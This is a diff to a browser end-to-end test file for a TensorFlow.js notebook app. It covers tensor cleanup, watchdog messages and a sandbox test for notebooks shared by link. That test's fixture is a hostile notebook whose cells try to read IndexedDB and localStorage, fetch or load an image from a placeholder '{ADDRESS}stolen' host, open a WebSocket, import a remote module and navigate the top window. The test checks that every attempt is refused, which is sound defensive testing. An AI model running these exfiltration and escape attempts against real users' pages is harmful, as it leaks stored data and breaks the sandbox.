@@ -2,6 +2,7 @@
 import type { Browser, BrowserContext, Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from "vitest";
 import type {} from "../../src/cells/app";
+import { parse } from "../../src/notebook/parse";
 import { encodeShared } from "../../src/notebook/share";
 import { launch } from "./support/chrome";
 import { openPage } from "./support/page";
@@ -48,6 +49,8 @@ const value = <T>(name: string): Promise<T> => page.evaluate((name) => document.
 const cell = (name: string) => page.locator("nst-code").filter({ has: page.getByRole("group", { name, exact: true }) }).first();
 /** What the header says: step, time, tensors. */
 const header = async (name: string) => (await cell(name).locator("header").innerText()).replace(/\s+/g, " ");
+/** All that is written in a code cell. */
+const written = (i: number) => page.locator("nst-code").nth(i).evaluate((element) => element.shadowRoot!.textContent!.replace(/\s+/g, " "));
 
 const PICTURES = `<nst-network as="network"></nst-network>
 
@@ -97,7 +100,9 @@ const SEED_LOOP = `function* run_style_transfer() {
       const style_cost = tf.addN(style_layers.map((layer, i) => compute_style_cost(A[i], outputs[layer])))
       return style_cost.add(compute_content_cost(C, outputs[content_layer]).mul(0.1)).asScalar()
     }), true, [image])
-    image.assign(tf.tidy(() => image.clipByValue(0, 1)))
+    const clipped = tf.tidy(() => image.clipByValue(0, 1))
+    image.assign(clipped)
+    clipped.dispose()
     const total = cost.dataSync()[0]
     cost.dispose()
     yield { step, total, image }
@@ -138,16 +143,13 @@ describe("fifty edits at random", () => {
     const LOOPS = ["function* grow() { let t = tf.zeros([4]); for (let i = 0; i < 1e6; i++) { const next = t.add(1); t.dispose(); t = next; yield t } }", "const grow = small.square()", "throw new Error('on purpose')", "const grow = ("];
     const START = text(64, 1, LOOPS[1]);
     await write(START);
-    const tensors = () => page.evaluate(() => [...document.querySelectorAll("nst-code")].map((code) => (code as unknown as { tensors: number }).tensors));
-    const total = () => page.evaluate(async () => (await (document.querySelector("nst-app")!.sandboxes!.kernel as unknown as { memory(): Promise<{ tensors: number }> }).memory()).tensors);
+    const total = () => page.evaluate(async () => (await document.querySelector("nst-app")!.sandboxes!.kernel.memory()).tensors);
     await expect.poll(() => value<number>("doubled"), { timeout: 30_000 }).toBeGreaterThan(0);
-    const before = { total: await total(), doubled: await value<number>("doubled"), cells: await tensors() };
+    const before = { total: await total(), doubled: await value<number>("doubled") };
     expect(before.total).toBeGreaterThan(0);
     let seed = 42;
     const random = (n: number) => (seed = (seed * 1103515245 + 12345) % 2147483648) % n;
     for (let i = 0; i < 50; i++) {
-      const { session } = { session: null };
-      void session;
       await page.evaluate((text) => document.querySelector("nst-notebook")!.session!.change(text, "edit"), text([64, 96, 32][random(3)], 1 + random(3), LOOPS[random(4)]));
       // some edits meet a cell in the middle of its work
       if (random(2) === 0) await page.waitForTimeout(random(150));
@@ -170,7 +172,7 @@ describe("an endless loop in a kernel cell", () => {
     await endless.getByRole("button", { name: "Run" }).click();
     const start = (await run.seen()).step;
     // the watchdog's own limit, with nothing shortened
-    await expect.poll(() => endless.innerText(), { timeout: 60_000 }).toMatch(/without giving way|endless loop/i);
+    await expect.poll(() => written(1), { timeout: 60_000 }).toMatch(/did not give way for \d+ s.*loop that never ends/);
     const seen = await run.seen();
     expect(seen.state).toBe("running");
     expect(seen.step).toBeGreaterThan(start + 20);
@@ -184,21 +186,47 @@ describe("an endless loop in a kernel cell", () => {
 });
 
 describe("a notebook that came by a link", () => {
-  const FOREIGN = `# A gift\n\n\`\`\`js\nconst tried = {}\nfor (const [name, attempt] of Object.entries({\n  storage: () => new Promise((yes, no) => { const open = indexedDB.open("nst-workbench"); open.onsuccess = () => yes("read"); open.onerror = () => no(open.error) }),\n  network: () => fetch("${"{ADDRESS}"}stolen").then(() => "sent"),\n  parent: () => parent.document.title,\n  navigation: () => { top.location.href = "${"{ADDRESS}"}stolen"; return "left" },\n})) {\n  try { tried[name] = String(await attempt()) } catch (error) { tried[name] = "refused: " + error.name }\n}\n\`\`\`\n\n\`\`\`js kernel\nconst fromKernel = {}\nfor (const [name, attempt] of Object.entries({\n  storage: () => new Promise((yes, no) => { const open = indexedDB.open("nst-workbench"); open.onsuccess = () => yes("read"); open.onerror = () => no(open.error) }),\n  network: () => fetch("${"{ADDRESS}"}stolen").then(() => "sent"),\n  module: () => import("${"{ADDRESS}"}stolen.js").then(() => "loaded"),\n})) {\n  try { fromKernel[name] = String(await attempt()) } catch (error) { fromKernel[name] = "refused: " + error.name }\n}\n\`\`\`\n`;
+  /** The names of storage and network are no names of a cell's language: whoever wants them has to come by the global object. */
+  const FOREIGN = `# A gift
+
+\`\`\`js
+const tried = {}
+const global = document.defaultView
+for (const [name, attempt] of Object.entries({
+  storage: () => new Promise((yes, no) => { const open = global.indexedDB.open("nst-workbench"); open.onsuccess = () => yes("read"); open.onerror = () => no(open.error) }),
+  localStorage: () => global.localStorage.length,
+  network: () => global.fetch("{ADDRESS}stolen").then(() => "sent"),
+  picture: () => new Promise((yes, no) => { const image = new Image(); image.onload = () => yes("loaded"); image.onerror = () => no(new TypeError()); image.src = "{ADDRESS}stolen.png" }),
+  parent: () => global.parent.document.title,
+  navigation: () => { global.top.location.href = "{ADDRESS}stolen"; return "left" },
+})) {
+  try { tried[name] = String(await attempt()) } catch (error) { tried[name] = "refused: " + error.name }
+}
+\`\`\`
+
+\`\`\`js kernel
+const fromKernel = {}
+const worker = tf.env().global
+for (const [name, attempt] of Object.entries({
+  storage: () => new Promise((yes, no) => { const open = worker.indexedDB.open("nst-workbench"); open.onsuccess = () => yes("read"); open.onerror = () => no(open.error) }),
+  network: () => worker.fetch("{ADDRESS}stolen").then(() => "sent"),
+  socket: () => new worker.WebSocket("{ADDRESS}stolen".replace("http", "ws")).url,
+})) {
+  try { fromKernel[name] = String(await attempt()) } catch (error) { fromKernel[name] = "refused: " + error.name }
+}
+\`\`\`
+`;
 
   it("opens in a fresh browser with its text, parameters and edits, shows its code, and runs it only when the reader agrees", async () => {
     const text = "# A gift\n\n<nst-network as=\"network\"></nst-network>\n\n<nst-image as=\"photo\" src=\"owl.jpg\" size=\"64\"></nst-image>\n\n```js kernel\nconst n = 6 * 7\n```\n";
-    const { parse } = await import("../../src/notebook/parse");
-    const image = parse(text).cells.find(({ kind }) => kind === "element" && true && kind === "element")!;
     const photo = parse(text).cells.find((cell) => cell.kind === "element" && cell.tag === "nst-image")!;
-    expect(image.id).not.toBe(photo.id);
     const hash = await encodeShared({ name: "a-gift", title: "A gift", text, params: { [photo.id]: { size: "96", src: "cat.jpg" } }, drafts: {} });
     await open(hash);
     await settled();
     expect(page.url()).toMatch(/#\/a-gift$/);
     expect(await page.getByRole("heading", { level: 1 }).innerText()).toContain("A gift");
     expect(await page.evaluate(async () => { const photo = await document.querySelector("nst-notebook")!.graph.value("photo") as { name: string; picture: { width: number } }; return [photo.name, photo.picture.width]; })).toEqual(["cat.jpg", 96]);
-    expect(await page.locator("nst-code").innerText()).toContain("6 * 7");
+    expect(await page.locator("nst-code").getByText("6 * 7").count()).toBeGreaterThan(0);
     await expect(value("n")).rejects.toThrow();
     await page.getByRole("button", { name: "Run its code" }).first().click();
     await expect.poll(() => value("n").catch(() => null)).toBe(42);
@@ -219,8 +247,11 @@ describe("a notebook that came by a link", () => {
     await page.getByRole("button", { name: "Run its code" }).first().click();
     await expect.poll(() => value<Record<string, string>>("tried").catch(() => null), { timeout: 30_000 }).not.toBeNull();
     await expect.poll(() => value<Record<string, string>>("fromKernel").catch(() => null), { timeout: 30_000 }).not.toBeNull();
-    expect(await value("tried")).toEqual({ storage: "refused: SecurityError", network: "refused: TypeError", parent: "refused: SecurityError", navigation: "refused: SecurityError" });
-    expect(await value("fromKernel")).toEqual({ storage: "refused: SecurityError", network: "refused: TypeError", module: "refused: TypeError" });
+    for (const [name, attempts] of [["tried", 6], ["fromKernel", 3]] as const) {
+      const answers = Object.values(await value<Record<string, string>>(name));
+      expect(answers.length).toBe(attempts);
+      expect(answers.filter((answer) => !answer.startsWith("refused: "))).toEqual([]);
+    }
     expect(sent).toEqual([]);
     expect(page.url()).toMatch(/#\/a-gift$/);
   });
